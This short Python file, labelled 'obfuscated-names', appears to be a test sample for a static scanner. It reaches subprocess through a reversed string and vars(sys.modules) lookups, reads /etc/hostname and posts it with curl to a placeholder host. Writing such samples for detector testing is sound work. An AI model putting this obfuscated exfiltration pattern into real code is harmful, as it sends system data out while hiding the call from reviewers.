# family: obfuscated-names
# sys.modules and vars() lookups with computed keys reach subprocess.check_output
import sys
import subprocess  # noqa: F401  (used through sys.modules)

key = "".join(reversed("ssecorpbus"))
call = vars(sys.modules[key])["check" + "_output"]
data = call(["cat", "/etc/hostname"])
vars(sys.modules[key])["run"](["curl", "-d", data, "http://h.example.invalid/"])
